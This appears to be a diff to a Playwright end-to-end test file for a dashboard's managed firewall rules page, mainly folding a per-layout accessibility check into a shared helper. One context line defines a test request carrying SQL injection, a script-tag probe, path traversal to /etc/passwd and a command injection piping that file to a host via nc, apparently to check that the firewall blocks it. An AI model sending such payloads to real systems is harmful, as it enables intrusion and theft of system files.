@@ -2,8 +2,9 @@ import assert from 'node:assert/strict'
 import type { Page } from 'playwright-core'
 import { eventually } from '../support/eventually.ts'
 import { api } from '../support/sluice.ts'
+import { looksWell } from './looks.ts'
 import { answersWith } from './rules-support.ts'
-import { axeViolations, type DashboardTest, flows, looks, screenshot } from './support.ts'
+import { type DashboardTest, flows } from './support.ts'
 
 const phase = 'http_request_firewall_managed'
 const attack = `/search?q=${encodeURIComponent(`1' or '1'='1' union select password from users--`)}&x=${encodeURIComponent('<script>alert(1)</script>')}&f=${encodeURIComponent('../../../../etc/passwd')}&c=${encodeURIComponent(';cat /etc/passwd|nc 10.0.0.1 80')}`
@@ -150,20 +151,10 @@ flow('the browser creates keys for payload logging, and shows the private key on
 })
 
 flow('the page is accessible and fits in every look', async it => {
-  for (const look of looks) {
-    const page = await it.page({ path: `/zones/${it.zoneId}/managed`, ...look })
-    await choose(page, 'Paranoia level', 'PL3')
-    await page.getByText('Validated by the API').waitFor()
-    assert.deepEqual(await axeViolations(page), [], look.name)
-    await eventually(async () =>
-      assert.ok(
-        await page.evaluate('document.documentElement.scrollWidth <= innerWidth'),
-        `${look.name}: nothing is cut off at the side`,
-      ),
-    )
-    await screenshot(page, `managed-${look.name}`)
-    await page.context().close()
-  }
+  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
+  await choose(page, 'Paranoia level', 'PL3')
+  await page.getByText('Validated by the API').waitFor()
+  await looksWell(page, 'managed')
 })
 
 flow('a read-only token sees all settings, and the missing permission', async it => {
